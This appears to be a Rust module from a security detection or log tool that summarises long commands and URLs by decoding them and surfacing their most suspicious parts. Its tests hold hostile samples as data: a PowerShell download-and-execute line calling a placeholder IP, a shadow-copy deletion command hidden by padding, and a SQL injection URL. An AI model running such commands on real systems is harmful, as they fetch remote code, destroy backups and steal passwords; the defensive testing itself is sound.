//! How is a long value said in few characters?
//!
//! Not by cutting it off, which lets whoever writes the field decide what is seen: decoded, and its telling
//! parts first.

use super::clean::{MAX_CHARS, clean, cut};
use super::lists::{MARKS, URL_MARKS};
use crate::decode;

/// Characters of its beginning that a long command keeps.
const LEAD_CHARS: usize = 36;
/// Longest part of a command or script that is judged as one, in characters.
const MAX_PART_CHARS: usize = 400;
/// Most of a text that is looked through, from its beginning and from its end, in bytes.
const MAX_HALF: usize = 64 * 1024;
/// Most parts looked at.
const MAX_PARTS: usize = 4000;

/// A command line or script within `max_chars`, with what it encodes beside it.
pub(super) fn command(text: &str, max_chars: usize) -> String {
    let layers = decode::layers(text);
    match layers.last() {
        Some(inner) => {
            let half = max_chars / 2;
            format!("{} (decoded: {})", telling(text, half), telling(inner, max_chars - half))
        }
        None => telling(text, max_chars),
    }
}

/// A text within `max_chars`: as it stands if it fits, else its beginning and then the lines or statements
/// that show most marks of what commands do, in their order.
pub(super) fn telling(text: &str, max_chars: usize) -> String {
    let mut whole = clean(text, max_chars);
    // Repeats are folded, so a text of which only the beginning was looked at may seem to fit.
    let seen_whole = text.len() <= MAX_CHARS || text.chars().count() <= MAX_CHARS;
    if !whole.ends_with('…') {
        if seen_whole {
            return whole;
        }
        whole.push('…');
    }
    let lead = clean(text, LEAD_CHARS.min(max_chars / 3));
    let parts = parts(text);
    let mut scored: Vec<(usize, usize)> = parts
        .iter()
        .enumerate()
        .map(|(place, part)| (marks(part), place))
        .filter(|(marks, _)| *marks > 0)
        .collect();
    if scored.is_empty() {
        return whole;
    }
    // The most telling ones, then the earliest; what says the same again is left out.
    scored.sort_by(|a, b| b.0.cmp(&a.0).then(a.1.cmp(&b.1)));
    let mut left = max_chars.saturating_sub(lead.chars().count() + 1);
    let mut kept: Vec<(usize, String)> = Vec::new();
    for (_, place) in scored {
        if left < 12 || kept.len() == 6 {
            break;
        }
        let shown = clean(around_mark(parts[place], left), left - 1);
        if kept.iter().any(|(_, other)| *other == shown) || lead.starts_with(shown.as_str()) {
            continue;
        }
        left = left.saturating_sub(shown.chars().count() + 1);
        kept.push((place, shown));
    }
    kept.sort_unstable();
    let rest: Vec<String> =
        kept.into_iter().map(|(_, shown)| shown.trim_end_matches('…').to_owned()).collect();
    format!("{}…{}", lead.trim_end_matches('…'), rest.join("…"))
}

/// Lines and statements, from the beginning and the end of a long text.
fn parts(text: &str) -> Vec<&str> {
    let halves = if text.len() <= 2 * MAX_HALF {
        [text, ""]
    } else {
        [&text[..text.floor_char_boundary(MAX_HALF)], &text[text.ceil_char_boundary(text.len() - MAX_HALF)..]]
    };
    halves
        .into_iter()
        .flat_map(|half| half.split(['\n', '\r', ';', '|', '&']))
        .flat_map(chunks)
        .map(str::trim)
        .filter(|part| !part.is_empty() && !part.starts_with('#') && !part.starts_with("REM "))
        .take(MAX_PARTS)
        .collect()
}

/// A part cut where it is too long to be judged as one.
fn chunks(part: &str) -> Vec<&str> {
    let mut chunks = Vec::new();
    let mut rest = part;
    while rest.len() > MAX_PART_CHARS {
        let (head, tail) = rest.split_at(rest.floor_char_boundary(MAX_PART_CHARS));
        chunks.push(head);
        rest = tail;
    }
    chunks.push(rest);
    chunks
}

fn marks(part: &str) -> usize {
    let lower = part.to_lowercase();
    MARKS.iter().filter(|mark| lower.contains(mark.trim())).count()
}

/// The part from a little before its first mark, if it does not fit as a whole.
fn around_mark(part: &str, max_chars: usize) -> &str {
    if part.chars().count() < max_chars {
        return part;
    }
    let lower = part.to_ascii_lowercase();
    let first = MARKS.iter().filter_map(|mark| lower.find(mark.trim())).min().unwrap_or_default();
    &part[part.floor_char_boundary(first.saturating_sub(max_chars / 4))..]
}

/// A URL within `max_chars`: percent encoding undone, then the path, then the parameters that show a mark.
pub(super) fn url(value: &str, max_chars: usize) -> String {
    let plain = decode::percent(value).unwrap_or_else(|| value.to_owned());
    let whole = clean(&plain, max_chars);
    if !whole.ends_with('…') {
        return whole;
    }
    let Some((path, query)) = plain.split_once('?') else { return whole };
    let mut parameters: Vec<(bool, &str)> =
        query.split('&').take(64).map(|parameter| (!has_mark(parameter), parameter)).collect();
    parameters.sort_by_key(|(plain, _)| *plain);
    let telling: Vec<&str> = parameters.iter().map(|(_, parameter)| *parameter).collect();
    let path = clean(path, max_chars / 2);
    let left = max_chars.saturating_sub(path.chars().count() + 1);
    cut(&format!("{path}?{}", clean(&telling.join("&"), left)), max_chars)
}

fn has_mark(parameter: &str) -> bool {
    let lower = parameter.to_lowercase();
    URL_MARKS.iter().any(|(mark, _)| lower.contains(mark)) || MARKS.iter().any(|mark| lower.contains(mark))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_long_script_shows_its_telling_lines() {
        let harmless = "$now = Get-Date\n".repeat(200);
        let script = format!(
            "{harmless}IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\n{harmless}"
        );
        let shown = command(&script, 110);
        assert!(shown.contains("DownloadString('http://203.0.113.9/a')"), "{shown}");
        assert!(shown.starts_with("$now = Get-Date"));
        assert!(shown.chars().count() <= 112, "{}", shown.chars().count());
    }

    #[test]
    fn padding_does_not_push_a_command_out() {
        let padded =
            format!("cmd /c echo {} & vssadmin delete shadows /all", "nothing to see here ".repeat(5000));
        assert!(command(&padded, 110).contains("delete shadows"), "{}", command(&padded, 110));
    }

    #[test]
    fn a_long_url_shows_path_and_attack() {
        let query = format!("page=1&ref={}&id=1%27%20union%20select%20password&x=2", "a".repeat(300));
        let shown = url(&format!("/shop/list.php?{query}"), 64);
        assert!(shown.starts_with("/shop/list.php?id=1' union select password"), "{shown}");
    }

    proptest! {
        #[test]
        fn what_is_shown_is_bounded_and_clean(text in "[a-zA-Z0-9 ;|\"\\[\\]\n<>%+=-]{0,600}", max in 20_usize..200) {
            for shown in [command(&text, max), url(&text, max)] {
                prop_assert!(!shown.contains(['"', '[', ']', '\n']));
                // "(decoded: )" and its marks stand beside.
                prop_assert!(shown.chars().count() <= max + 24, "{} {}", shown.chars().count(), max);
            }
        }
    }
}
